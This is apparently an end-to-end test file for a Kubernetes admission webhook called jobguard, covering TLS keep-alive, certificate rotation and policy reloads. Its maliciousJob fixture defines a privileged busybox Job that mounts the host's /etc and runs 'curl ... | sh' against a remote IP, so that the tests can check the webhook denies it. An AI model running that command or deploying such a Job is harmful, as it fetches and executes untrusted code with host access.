/**
 * The real server (`startServer`) over real TLS on 127.0.0.1, spoken to the way kube-apiserver
 * does: HTTP/1.1 keep-alive, `POST /validate?timeout=10s`, replies checked as the API server checks
 * them. Certificates and the policy file change through the kubelet's `..data` symlink swap.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { readFileSync } from 'node:fs';
import type { Agent } from 'node:https';
import { startServer, type RunningServer } from '../src/cli/serve.js';
import { DEFAULT_BODY_LIMIT } from '../src/server/app.js';
import { createCa, fingerprintOf, issueServingCert, ProjectedDir, type KeyPair } from './support/certs.js';
import {
  apiServerAgent,
  drive,
  postReview,
  replyProblems,
  send,
  waitFor,
  type HttpsTarget,
  type ReviewReply,
} from './support/load.js';
import { captureLogger, fixture, makeReview } from './support/review.js';

/** busybox, privileged, hostPath /etc, curl | sh: four kql indicators, over the kql deny threshold of 3. */
function maliciousJob(): Record<string, unknown> {
  return {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name: 'host-etc' },
    spec: {
      template: {
        spec: {
          restartPolicy: 'Never',
          containers: [
            {
              name: 'x',
              image: 'busybox:latest',
              command: ['sh', '-c', 'curl -s http://203.0.113.9/x | sh'],
              securityContext: { privileged: true },
              volumeMounts: [{ name: 'host-etc', mountPath: '/host/etc' }],
            },
          ],
          volumes: [{ name: 'host-etc', hostPath: { path: '/etc' } }],
        },
      },
    },
  };
}

function tlsFiles(pair: KeyPair): Record<string, string> {
  return { 'tls.crt': pair.cert, 'tls.key': pair.key };
}

function serveOptions(dir: ProjectedDir, extra: { configFile?: string } = {}) {
  const { logger, lines } = captureLogger();
  return {
    lines,
    options: {
      overrides: extra.configFile ? {} : { profile: 'kql' as const, mode: 'enforce' as const },
      ...(extra.configFile ? { configFile: extra.configFile } : {}),
      host: '127.0.0.1',
      port: 0,
      tls: { certFile: dir.path('tls.crt'), keyFile: dir.path('tls.key') },
      bodyLimit: DEFAULT_BODY_LIMIT,
      shutdownDelayMs: 0,
      logger,
      env: {},
    },
  };
}

async function metricValue(target: HttpsTarget, name: string, labels: string): Promise<number> {
  const { text } = await send(target, 'GET', '/metrics');
  const line = text.split('\n').find((l) => l.startsWith(`${name}{${labels}}`));
  return line === undefined ? 0 : Number(line.split(' ').pop());
}

let ca: KeyPair;
beforeAll(async () => {
  ca = await createCa();
});

describe('the webhook over TLS, as kube-apiserver calls it', () => {
  let dir: ProjectedDir;
  let server: RunningServer;
  let agent: Agent;
  let target: HttpsTarget;
  let lines: Record<string, unknown>[];

  beforeAll(async () => {
    dir = await ProjectedDir.create('jobguard-e2e-tls-', tlsFiles(await issueServingCert(ca)));
    const setup = serveOptions(dir);
    lines = setup.lines;
    server = await startServer(setup.options);
    agent = apiServerAgent(ca.cert, { maxSockets: 1 });
    target = { url: server.url, agent };
  });

  afterAll(async () => {
    agent.destroy();
    await server.close();
    await dir.remove();
  });

  it('answers reviews over one kept-alive HTTP/1.1 socket: allow the benign, deny the malicious with 403', async () => {
    const results = [];
    for (let i = 0; i < 6; i++) {
      const malicious = i % 2 === 1;
      const review = makeReview(malicious ? maliciousJob() : fixture('kubectl/hello-cronjob.json'), {
        uid: `e2e-${i}`,
        apiVersion: i === 4 ? 'admission.k8s.io/v1beta1' : 'admission.k8s.io/v1',
      });
      const res = await postReview(target, review);
      expect(replyProblems(review, res.status, res.text)).toEqual([]);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      const reply = JSON.parse(res.text) as ReviewReply;
      expect(reply.response?.allowed).toBe(!malicious);
      if (malicious) {
        expect(reply.response?.status?.code).toBe(403);
        expect(reply.response?.status?.message).toMatch(/^jobguard: Job \S+ denied, score \d+ reaches deny/);
        expect(reply.response?.status?.message).toContain('kql-privileged');
      }
      results.push(res);
    }
    expect(results.slice(1).every((r) => r.reusedSocket)).toBe(true);
    expect(new Set(results.map((r) => r.fingerprint)).size).toBe(1);
    expect(lines.filter((l) => l.msg === 'admission')).toHaveLength(6);
  });

  it('serves new TLS handshakes with a rotated certificate, without a failed request or a restart', async () => {
    const fresh: HttpsTarget = { url: server.url, agent: false, ca: ca.cert };
    const first = await send(fresh, 'GET', '/healthz');
    let expected = first.fingerprint;
    expect(expected).toBe(fingerprintOf(readFileSync(dir.path('tls.crt'), 'utf8')));
    let uid = 0;
    const load = drive(
      async () => {
        const review = makeReview(fixture('kubectl/hello-cronjob.json'), { uid: `rot-${uid++}` });
        const res = await postReview(target, review);
        return replyProblems(review, res.status, res.text).join('; ') || undefined;
      },
      { workers: 2, maxMs: 20_000 },
    );
    // Twice: fs.watch on the file itself would see only the first `..data` swap (toolchain notes).
    for (let rotation = 0; rotation < 2; rotation++) {
      const next = await issueServingCert(ca);
      const nextFingerprint = fingerprintOf(next.cert);
      expect(nextFingerprint).not.toBe(expected);
      await dir.write(tlsFiles(next));
      await waitFor(
        `rotation ${rotation + 1} to reach new handshakes`,
        async () => (await send(fresh, 'GET', '/healthz')).fingerprint === nextFingerprint,
        { timeoutMs: 8_000, intervalMs: 100 },
      );
      for (let i = 0; i < 3; i++)
        expect((await send(fresh, 'GET', '/healthz')).fingerprint).toBe(nextFingerprint);
      expected = nextFingerprint;
    }
    const { sent, ok, failures } = await load.stop();
    expect(failures).toEqual([]);
    expect(ok).toBe(sent);
    expect(sent).toBeGreaterThan(10);
    const ready = JSON.parse((await send(fresh, 'GET', '/readyz')).text) as { certificateNotAfter: string };
    expect(typeof ready.certificateNotAfter).toBe('string');
    expect(lines.filter((l) => l.msg === 'TLS certificate reloaded').length).toBeGreaterThanOrEqual(2);
  });
});

describe('policy reload through a ConfigMap-style ..data swap', () => {
  const policy = (mode: string, extra = '') =>
    `apiVersion: jobguard.dev/v1\nkind: Policy\nprofile: kql\nmode: ${mode}\n${extra}`;
  // Parses, but warn above deny is refused: if it ever applied, malicious objects would be denied.
  const broken = policy('enforce', 'thresholds: { annotate: 1, warn: 9, deny: 2 }\n');

  it('applies valid → valid → broken → valid while requests flow; the broken one never applies', async () => {
    const certs = await ProjectedDir.create('jobguard-e2e-certs-', tlsFiles(await issueServingCert(ca)));
    const config = await ProjectedDir.create('jobguard-e2e-policy-', { 'policy.yaml': policy('enforce') });
    const { options } = serveOptions(certs, { configFile: config.path('policy.yaml') });
    const server = await startServer(options);
    const agent = apiServerAgent(ca.cert);
    const target: HttpsTarget = { url: server.url, agent };
    const readyz = async () =>
      JSON.parse((await send(target, 'GET', '/readyz')).text) as {
        mode: string;
        profile: string;
        policyError?: string;
      };
    try {
      expect(await readyz()).toMatchObject({ mode: 'enforce', profile: 'kql' });
      const failuresBefore = await metricValue(target, 'jobguard_policy_reloads_total', 'result="failure"');
      let phase = 'enforce';
      const denialsIn: Record<string, number> = {};
      let uid = 0;
      const load = drive(
        async () => {
          const review = makeReview(maliciousJob(), { uid: `pol-${uid++}` });
          const at = phase;
          const res = await postReview(target, review);
          const problems = replyProblems(review, res.status, res.text);
          if (problems.length > 0) return problems.join('; ');
          const reply = JSON.parse(res.text) as ReviewReply;
          if (reply.response?.allowed === false) denialsIn[at] = (denialsIn[at] ?? 0) + 1;
          return undefined;
        },
        { workers: 4, maxMs: 25_000 },
      );

      await config.write({ 'policy.yaml': policy('warn') });
      await waitFor('the warn policy', async () => (await readyz()).mode === 'warn');
      // From here until the next valid policy, nothing may be denied: warn mode only warns.
      phase = 'warn';
      await config.write({ 'policy.yaml': broken });
      await waitFor(
        'the broken policy to be reported',
        async () => (await readyz()).policyError !== undefined,
      );
      const afterBroken = await readyz();
      expect(afterBroken.mode).toBe('warn');
      expect(afterBroken.policyError).toContain('policy.yaml');
      expect(afterBroken.policyError).toContain('thresholds');
      expect(await metricValue(target, 'jobguard_policy_reloads_total', 'result="failure"')).toBeGreaterThan(
        failuresBefore,
      );
      // Requests keep being answered by the last good policy for a while.
      await new Promise((resolve) => setTimeout(resolve, 500));
      phase = 'after-broken';
      await config.write({ 'policy.yaml': policy('audit') });
      await waitFor('the audit policy', async () => (await readyz()).mode === 'audit');
      phase = 'audit';
      await new Promise((resolve) => setTimeout(resolve, 300));
      const { sent, ok, failures } = await load.stop();

      expect(failures).toEqual([]);
      expect(ok).toBe(sent);
      expect(sent).toBeGreaterThan(20);
      // Denials only while the first (enforce) policy was in force: never from the broken one.
      expect(Object.keys(denialsIn)).toEqual(['enforce']);
      expect((await readyz()).policyError).toBeUndefined();
      expect(
        await metricValue(target, 'jobguard_policy_reloads_total', 'result="success"'),
      ).toBeGreaterThanOrEqual(3);
    } finally {
      agent.destroy();
      await server.close();
      await certs.remove();
      await config.remove();
    }
  });
});
